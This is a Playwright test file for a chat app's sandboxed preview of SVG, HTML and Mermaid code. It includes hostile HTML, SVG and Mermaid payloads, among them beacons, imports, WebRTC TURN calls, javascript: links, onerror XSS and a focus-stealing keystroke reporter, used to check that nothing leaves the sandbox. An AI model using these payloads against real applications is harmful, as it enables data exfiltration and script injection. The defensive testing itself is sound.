import { AxeBuilder } from '@axe-core/playwright';
import type { FrameLocator, Page } from '@playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromiumLaunch } from '../../scripts/browsers.mjs';
import { expect, test as base } from './app';
import { said, storedConversation, withSessions } from './chat';
import { listen, scriptsAreOff } from './preview-words';

/** A server that counts what reaches it: requests, and connections without one. */
const test = base.extend<{ elsewhere: { url: string; seen: string[] } }>({
	elsewhere: async ({ app: _ }, use) => {
		const seen: string[] = [];
		const server = createServer((request, response) => {
			seen.push(`${request.method} ${request.url}`);
			response.setHeader('Access-Control-Allow-Origin', '*').end('window.harmed = true');
		});
		server.on('connection', () => seen.push('a connection'));
		await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
		await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen });
		server.closeAllConnections();
		server.close();
	}
});

// As browsers on a desktop do, which have the memory for it: a frame of another site, or of none, has a process of its own.
test.use({ weights: 'none', launchOptions: { ...chromiumLaunch(), args: [...chromiumLaunch().args, '--site-per-process'] } });

/** Opens a chat in which an answer has this code. */
async function withCode(page: Page, language: string, code: string): Promise<void> {
	const stored = storedConversation(1, ['Please draw.', `\`\`\`${language}\n${code}\n\`\`\``]);
	await page.goto('./');
	await withSessions(page, [stored]);
	await page.goto(`./s/${stored.sessions.id}`);
}

const buttonOf = (page: Page) => said(page).assistant.getByRole('button', { name: 'Preview' });

/** The document that was made of the code. */
const drawnIn = (page: Page): FrameLocator => page.frameLocator('iframe[title^="Preview of"]').frameLocator('iframe');

const square = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>A square</title><rect width="10" height="10" fill="teal"/></svg>';

for (const [language, code, colorScheme, width] of [
	['svg', square, 'light', 1280],
	['html', '<h1>Hello</h1><p id="a">Not yet</p><script>a.textContent = "It runs";</script>', 'dark', 820],
	['mermaid', 'graph TD\n  A[Start] --> B{Done?}\n  B -->|yes| C[End]', 'light', 390]
] as const) {
	test(`[P3] [P10] ${language} is drawn at a click, and put away at another`, async ({ page, expectConsole }) => {
		expectConsole.push(scriptsAreOff);
		await page.setViewportSize({ width, height: 900 });
		await page.emulateMedia({ colorScheme });
		await withCode(page, language, code);
		const button = buttonOf(page);
		await expect(button).toHaveAttribute('aria-pressed', 'false');
		await expect(page.locator('iframe')).toHaveCount(0);
		await button.focus();
		await page.keyboard.press('Enter');
		await expect(button).toHaveAttribute('aria-pressed', 'true');
		const drawn = drawnIn(page);
		if (language === 'svg') await expect(drawn.locator('rect')).toBeVisible();
		if (language === 'mermaid') await expect(drawn.getByText('Done?')).toBeVisible();
		if (language === 'html') {
			await expect(drawn.getByText('Not yet')).toBeVisible();
			const run = page.getByRole('button', { name: 'Run scripts' });
			await run.click();
			await expect(drawn.getByText('It runs')).toBeVisible();
			await expect(run).toBeFocused();
			await run.click();
			await expect(drawn.getByText('Not yet')).toBeVisible();
		}
		// Nothing can be asked in a frame without scripts.
		const { violations } = await new AxeBuilder({ page }).exclude('iframe').analyze();
		expect(violations.map(({ id, nodes }) => [id, nodes.map(({ target }) => target)])).toEqual([]);
		await button.press('Enter');
		await expect(page.locator('iframe')).toHaveCount(0);
		await expect(button).toBeFocused();
		await expect(button).toHaveAttribute('aria-pressed', 'false');
	});
}

test.describe('with the service worker', () => {
	test.use({ serviceWorkers: 'allow' });

	test('[P3] [P1] a diagram is drawn with no network, on its first use', async ({ page, context }) => {
		await page.goto('./');
		await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
		await context.setOffline(true);
		await withCode(page, 'mermaid', 'sequenceDiagram\n  Ann->>Ben: Hello');
		await buttonOf(page).click();
		await expect(drawnIn(page).getByText('Hello')).toBeVisible();
	});
});

for (const [what, language, code, sentence] of [
	['a mistake', 'mermaid', 'graph TD\n  A --> B\n  B --> [[[\n  C --> D', 'This diagram has a mistake in line 3.'],
	['another kind', 'mermaid', 'mindmap\n  Fruit\n    Pears', 'Snug can’t draw diagrams of this kind.'],
	['a mistake below a comment', 'mermaid', '%% Fruit\ngraph TD\n  A[[[', 'This diagram can’t be drawn.'],
	['a tag that does not end', 'svg', '<svg viewBox="0 0 100 100">\n  <circle cx="50" cy="50" r="40" fill="teal"', 'There is nothing to draw in this SVG.']
] as const) {
	test(`[P3] ${language} with ${what} says so in a sentence, and its source stays`, async ({ page }) => {
		await withCode(page, language, code);
		await buttonOf(page).click();
		const figure = said(page).assistant.locator('figure');
		await expect(figure.getByRole('status')).toHaveText(sentence);
		await expect(page.locator('iframe')).toHaveCount(0);
		await expect(figure.locator('code')).toHaveText(code);
		await buttonOf(page).click();
		await expect(figure.getByRole('status')).toHaveCount(0);
	});
}

const heightOf = (page: Page) => page.getByTitle(/^Preview of/).evaluate((frame) => frame.clientHeight);

for (const [what, language, code, least, most] of [
	['a small picture', 'svg', '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="120"><rect width="300" height="120" fill="teal"/></svg>', 120, 120],
	['a tiny picture', 'svg', '<svg width="16px" height="16px" viewBox="0 0 16 16"><rect width="16" height="16" fill="teal"/></svg>', 60, 64],
	['a picture as wide as its place', 'svg', '<svg viewBox="0 0 800 100"><rect width="800" height="100" fill="teal"/></svg>', 70, 90],
	['a tall picture', 'svg', '<svg width="100" height="4000"><rect width="100" height="4000" fill="teal"/></svg>', 383, 384],
	['a small diagram', 'mermaid', 'graph LR\n  A[Start] --> B[End]', 64, 110],
	['a tall diagram', 'mermaid', `graph TD\n${'abcdefghijklmnopq'.replace(/(.)(?=(.))/g, '  $1 --> $2\n')}`, 383, 384],
	['a document', 'html', '<p>Pears</p>', 383, 384]
] as const) {
	test(`[P3] a preview of ${what} is as high as what it draws, within limits`, async ({ page }) => {
		await withCode(page, language, code);
		await buttonOf(page).click();
		await expect(drawnIn(page).locator('svg, p').first()).toBeVisible();
		await expect.poll(() => heightOf(page)).toBeGreaterThanOrEqual(least);
		expect(await heightOf(page)).toBeLessThanOrEqual(most);
	});
}

test('[P3] a preview at the end of a chat opens below its button, which stays in its place', async ({ page }) => {
	const stored = storedConversation(1, ['Please draw.', `${'A line.\n\n'.repeat(30)}\`\`\`mermaid\ngraph TD\n  A --> B --> C --> D\n\`\`\``]);
	await page.goto('./');
	await withSessions(page, [stored]);
	await page.goto(`./s/${stored.sessions.id}`);
	const button = buttonOf(page);
	await expect(button).toBeInViewport({ ratio: 1 });
	let before = NaN;
	await expect.poll(async () => before === (before = (await button.boundingBox())!.y)).toBe(true);
	await button.click();
	await expect.poll(() => heightOf(page)).toBeGreaterThan(200);
	expect((await button.boundingBox())!.y).toBeCloseTo(before, 0);
});

test('[P3] [P10] a diagram that is shown is drawn again when the theme is another', async ({ page }) => {
	await withCode(page, 'mermaid', 'graph LR\n  A[Start] --> B[End]');
	await buttonOf(page).click();
	const line = drawnIn(page).locator('.edgePaths path, path.flowchart-link').first();
	await expect(line).toBeAttached();
	const colour = () => line.evaluate((line) => getComputedStyle(line).stroke);
	const light = await colour();
	const height = await heightOf(page);
	await page.emulateMedia({ colorScheme: 'dark' });
	await expect.poll(colour).not.toBe(light);
	expect(await heightOf(page)).toBe(height);
	const dark = await colour();
	await page.emulateMedia({ colorScheme: 'light' });
	await expect.poll(colour).toBe(light);
	// Also where it is chosen, in another tab.
	const other = await page.context().newPage();
	await other.goto('./robots.txt');
	await other.evaluate(() => localStorage.setItem('snug:preferences', JSON.stringify({ theme: 'dark' })));
	await expect.poll(colour).toBe(dark);
});

test('[P3] [P10] in the dark, the slices of a pie chart stand out from the page, and all words from what they are on', async ({ page }) => {
	await page.emulateMedia({ colorScheme: 'dark' });
	await withCode(page, 'mermaid', `pie title Fruit\n${Array.from({ length: 12 }, (_, kind) => `  "Kind ${kind}" : ${20 + kind}`).join('\n')}`);
	await buttonOf(page).click();
	const chart = drawnIn(page).locator('svg');
	await expect(chart.locator('.pieCircle')).toHaveCount(12);
	const contrasts = await chart.evaluate((chart) => {
		type Colour = [number, number, number];
		const read = (colour: string) => colour.match(/[\d.]+/g)!.slice(0, 3).map(Number) as Colour;
		const page = read(getComputedStyle(document.documentElement).backgroundColor);
		const light = (colour: Colour) => {
			const [r, g, b] = colour.map((value) => (value <= 10 ? value / 3294.6 : ((value / 255 + 0.055) / 1.055) ** 2.4)) as Colour;
			return 0.2126 * r + 0.7152 * g + 0.0722 * b + 0.05;
		};
		const contrast = (a: Colour, b: Colour) => Math.max(light(a), light(b)) / Math.min(light(a), light(b));
		const fills = (query: string) =>
			[...chart.querySelectorAll(query)].map((element) => {
				const { fill, opacity } = getComputedStyle(element);
				return read(fill).map((value, at) => value * Number(opacity) + page[at]! * (1 - Number(opacity))) as Colour;
			});
		const slices = fills('.pieCircle');
		const [words] = fills('text.slice');
		return {
			slices: Math.min(...slices.map((slice) => contrast(slice, page))),
			words: Math.min(...slices.map((slice) => contrast(slice, words!))),
			beside: Math.min(...fills('.legend text, .pieTitleText').map((words) => contrast(words, page)))
		};
	});
	expect(contrasts.slices).toBeGreaterThanOrEqual(3);
	expect(contrasts.words).toBeGreaterThanOrEqual(4.5);
	expect(contrasts.beside).toBeGreaterThanOrEqual(4.5);
});

/** Attempts of a preview, by name: each would reach the server at `to`, or the app. */
const attempts: Record<string, (to: string) => string> = {
	pictures: (to) => `<img src="${to}/img"><style>@import "${to}/css"; body { background: url(${to}/bg) }</style><link rel="stylesheet" href="${to}/l">`,
	requests: (to) => `<script>fetch('${to}/f').catch(() => 0); navigator.sendBeacon('${to}/b', 'x'); new EventSource('${to}/e'); try { new WebSocket('${to.replace('http', 'ws')}/w') } catch {}</script>`,
	scripts: (to) => `<script src="${to}/s.js"></script><script>import('${to}/i.js').catch(() => 0)</script><script type="module">import '${to}/m.js'</script>`,
	'its own address': (to) => `<script>location = '${to}/nav'</script>`,
	'a refresh': (to) => `<meta http-equiv="refresh" content="0;url=${to}/meta">`,
	'addresses around it': (to) => `<script>for (const other of [parent, top]) try { other.location = '${to}/around' } catch {}</script>`,
	'the way back': () => '<script>history.back(); history.go(-1)</script>',
	links: (to) => `<a id="a" href="${to}/a">x</a><a id="b" target="_blank" href="${to}/b">y</a><a id="c" target="_top" href="${to}/c">y</a><a id="d" href="#x" ping="${to}/ping">z</a><script>for (const link of [a, b, c, d]) link.click(); open('${to}/open')</script>`,
	forms: (to) => `<form id="f" action="${to}/form"><input name="a" value="1"></form><script>f.submit()</script>`,
	hints: (to) => `<link rel="prefetch" href="${to}/p"><link rel="preload" as="image" href="${to}/q"><link rel="modulepreload" href="${to}/r"><link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to}/s"]}]}</script>`,
	frames: (to) => `<iframe src="${to}/frame"></iframe><object data="${to}/object"></object><embed src="${to}/embed">`,
	documents: (to) => `<script>location = URL.createObjectURL(new Blob(['<script>fetch("${to}/blob")<\\/script>'], { type: 'text/html' }))</script>`,
	data: (to) => `<script>location = 'data:text/html,<script>fetch("${to}/data")<\\/script>'</script>`,
	workers: (to) => `<script>try { new Worker(URL.createObjectURL(new Blob(['fetch("${to}/worker")']))) } catch {}</script>`,
	connections: (to) => `<script>try { const peer = new RTCPeerConnection({ iceServers: [{ urls: '${to.replace('http://', 'turn:')}?transport=tcp', username: 'u', credential: 'c' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) } catch {}</script>`,
	'the app': () => `<script>for (const other of [parent, top]) { try { other.document.title = 'harmed' } catch {} try { other.harmed = true } catch {} } try { localStorage.harmed = true } catch {} try { indexedDB.open('harmed') } catch {}</script>`
};

test('[P8] a hostile preview fetches nothing, goes nowhere and reaches nothing of the app', async ({ page, elsewhere, expectConsole }) => {
	expectConsole.push(/.*/);
	for (const [name, attempt] of Object.entries(attempts)) {
		await withCode(page, 'html', `<script>top.postMessage('ran with origin ' + self.origin, '*')</script>${attempt(elsewhere.url)}`);
		const heard = await listen(page);
		const address = page.url();
		await buttonOf(page).click();
		await page.getByRole('button', { name: 'Run scripts' }).click();
		await expect.poll(heard, name).toContain('null: ran with origin null');
		// What it would ask for has had its time once a page that was asked for later is there.
		await page.evaluate(() => fetch('/robots.txt').then((response) => response.text()));
		await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
		expect(elsewhere.seen, name).toEqual([]);
		expect(page.url(), name).toBe(address);
		expect(await page.title(), name).not.toBe('harmed');
		expect(page.context().pages(), name).toHaveLength(1);
		expect(await page.evaluate(async () => ['harmed' in window, 'harmed' in localStorage, (await indexedDB.databases()).some(({ name }) => name === 'harmed')]), name).toEqual([false, false, false]);
	}
	expect(elsewhere.seen).toEqual([]);
});

test('[P8] hostile pictures and diagrams run nothing, also within their frame, and fetch nothing', async ({ page, elsewhere, expectConsole }) => {
	expectConsole.push(/.*/);
	const says = "top.postMessage('it ran', '*')";
	for (const [language, code] of [
		['svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${says}"><script>${says}</script><image href="${elsewhere.url}/i"/><use href="${elsewhere.url}/u#a"/><foreignObject><img src="${elsewhere.url}/f" onerror="${says}"/></foreignObject><a href="javascript:${says}"><rect width="99" height="99"/></a></svg>`],
		['mermaid', `graph TD\n  A["<img src=${elsewhere.url}/m onerror=${says}>"] --> B["<script>${says}</script>"]\n  click A "javascript:${says}"\n  click B call alert()`],
		['mermaid', `%%{init: {"securityLevel": "loose", "themeCSS": "@import '${elsewhere.url}/t'; rect { fill: url(${elsewhere.url}/r) }"}}%%\ngraph TD\n  A["<b onclick=${says}>x</b></script><script>${says}</script>"] --> B`]
	] as const) {
		await withCode(page, language, code);
		const heard = await listen(page);
		await buttonOf(page).click();
		await expect(drawnIn(page).locator('svg, #drawn:not(:empty)').first()).toBeAttached();
		await page.evaluate(() => fetch('/robots.txt').then((response) => response.text()));
		await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
		expect(await heard(), code).toEqual([]);
		expect(elsewhere.seen, code).toEqual([]);
	}
});

test('[P8] the scripts of a preview that take the focus from what is typed elsewhere are stopped', async ({ page, expectConsole }) => {
	expectConsole.push(scriptsAreOff);
	const code = '<input id="field"><script>onmessage = () => setInterval(() => { window.focus(); field.focus(); }, 10); oninput = () => top.postMessage(field.value, "*"); top.postMessage("begins", "*")</script>';
	await withCode(page, 'html', code);
	const heard = await listen(page);
	await buttonOf(page).click();
	const run = page.getByRole('button', { name: 'Run scripts' });
	await run.click();
	await expect.poll(heard).toEqual(['null: begins']);
	const composer = page.getByRole('textbox', { name: 'Message' });
	await composer.click();
	await page.keyboard.type('My secret');

	// What is drawn is used after a press on it.
	const frame = page.locator('iframe');
	await frame.click({ force: true });
	await expect(frame).not.toHaveAttribute('inert');
	// The keys follow the press to the frame's own process a moment later.
	await expect(async () => {
		await drawnIn(page).locator('input').click();
		await page.keyboard.type('Hello');
		expect((await heard()).at(-1)).toMatch(/^null: .*Hello$/);
	}).toPass();

	await composer.click();
	const before = (await heard()).length;
	await page.evaluate(() => frames[0]!.frames[0]!.postMessage('take', '*'));
	await expect(page.getByText('its scripts were stopped')).toBeVisible();
	await expect(run).toHaveAttribute('aria-pressed', 'false');
	await expect(composer).toBeFocused();
	await page.keyboard.type(' words');
	await expect(composer).toHaveValue('My secret words');
	expect((await heard()).slice(before)).toEqual([]);
});

test('[P8] a preview that runs for ever keeps nothing up, and is put away', async ({ page, expectConsole }) => {
	expectConsole.push(scriptsAreOff);
	await withCode(page, 'html', '<script>top.postMessage("begins", "*"); setTimeout(() => { for (;;); })</script>');
	const heard = await listen(page);
	await buttonOf(page).click();
	await page.getByRole('button', { name: 'Run scripts' }).click();
	await expect.poll(heard).toEqual(['null: begins']);
	await page.getByRole('textbox', { name: 'Message' }).fill('Still here');
	await buttonOf(page).press('Enter');
	await expect(page.locator('iframe')).toHaveCount(0);
	await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('Still here');
});
